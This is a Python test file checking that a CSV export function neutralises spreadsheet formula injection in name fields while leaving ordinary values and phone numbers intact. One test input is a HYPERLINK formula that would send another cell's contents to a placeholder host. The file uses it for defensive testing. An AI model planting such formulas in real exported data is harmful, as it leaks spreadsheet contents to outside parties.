"""Rows as they are written: CSV for spreadsheets too."""

import pytest

from campaign_service.report.rows import csv_row


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x/"&C2)', '\'=HYPERLINK("http://x/"&C2)'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@sum(1)", "'@sum(1)"),
        ("Ada = Countess", "Ada = Countess"),
        (True, "true"),
        (-1, -1),
        (None, None),
    ],
)
def test_name_is_no_formula_in_a_spreadsheet(cell, written):
    """R9.2: a log is exported to be read; what a name says is never done."""
    assert csv_row({"name": cell}) == {"name": written}


def test_telephone_number_stays_as_it_is():
    """R9.2: +39050... is a number, and can do nothing."""
    assert csv_row({"number": "+390501234567"}) == {"number": "+390501234567"}
